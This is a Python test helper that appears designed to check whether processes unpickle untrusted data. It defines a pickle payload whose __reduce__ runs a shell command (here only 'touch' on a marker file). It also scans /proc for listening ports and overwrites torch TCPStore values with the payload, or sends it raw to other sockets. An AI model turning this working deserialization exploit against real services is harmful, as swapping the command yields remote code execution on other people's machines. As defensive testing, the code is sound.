"""What must never be unpickled, and who would have it unpickled: a stranger who reaches a port."""

import base64
import contextlib
import os
import pickle
import socket
import threading
from collections.abc import Callable, Iterable
from datetime import timedelta
from pathlib import Path
from typing import Any

import psutil
import torch.distributed as dist

_PATIENCE = timedelta(seconds=0.3)


class Evil:
    """What unpickling of it does, it does at once: make a file."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> Any:
        return os.system, (f"touch {self.marker}",)


def attack(address: str, port: int, marker: Path) -> list[str]:
    """Do what a stranger can do to whatever listens there: if it is torch's store, replace all of its values, which torch elastic
    and others unpickle; else send it such a value. Returns the keys that were replaced."""
    evil = pickle.dumps(Evil(marker))
    text = base64.b64encode(evil).decode()
    with contextlib.suppress(RuntimeError, ValueError):
        store = dist.TCPStore(address, port, is_master=False, wait_for_workers=False, timeout=_PATIENCE)
        keys = list(store.list_keys())
        for key in keys:
            store.set(key, text)
        return keys
    with contextlib.suppress(OSError), socket.create_connection((address, port), timeout=_PATIENCE.total_seconds()) as stranger:
        stranger.sendall(len(evil).to_bytes(8, "little") + evil)
        stranger.recv(1 << 10)
    return []


class Stranger:
    """Attacks every port that some processes open, at once and once more at the end.

    Attributes:
        attacked: where.
        replaced: keys of torch's stores that were found.
    """

    def __init__(self, processes: Callable[[], Iterable[psutil.Process]], marker: Path, spared: Iterable[int] = ()) -> None:
        self._processes, self._marker, self._spared = processes, marker, {*spared}
        self.attacked: set[tuple[str, int]] = set()
        self.replaced: list[str] = []
        self._stop = threading.Event()

    def __enter__(self) -> "Stranger":
        self._thread = threading.Thread(target=self._run)
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stop.set()
        self._thread.join()
        self._attack(self._open())

    def _run(self) -> None:
        seen: set[str] = set()  # sockets, of whatever process
        while not self._stop.wait(0.01):
            if new := _listening().keys() - seen:
                seen |= new
                self._attack(self._open() - self.attacked)

    def _attack(self, places: set[tuple[str, int]]) -> None:
        self.attacked |= places
        # The client of torch's store waits for ever at a port that takes connections and says nothing.
        threads = [threading.Thread(target=self._attack_one, args=place, daemon=True) for place in places]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(3 * _PATIENCE.total_seconds())

    def _attack_one(self, address: str, port: int) -> None:
        self.replaced += attack(address, port, self._marker)

    def _open(self) -> set[tuple[str, int]]:
        places, found = _listening(), set()
        for process in self._processes():
            with contextlib.suppress(OSError):
                for fd in Path(f"/proc/{process.pid}/fd").iterdir():
                    with contextlib.suppress(OSError):
                        found |= {places[link] for link in [os.readlink(fd)] if link in places}
        return {place for place in found if place[1] not in self._spared}


def _listening() -> dict[str, tuple[str, int]]:
    """(address, port) of every TCP socket that listens, by its name among a process's descriptors: quicker than psutil's, so that
    a port of some milliseconds is not missed."""
    rows = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    places = {f"socket:[{row[9]}]": row[1].split(":") for row in rows if row[3] == "0A"}
    return {name: (socket.inet_ntoa(bytes.fromhex(host)[::-1]), int(port, 16)) for name, (host, port) in places.items()}
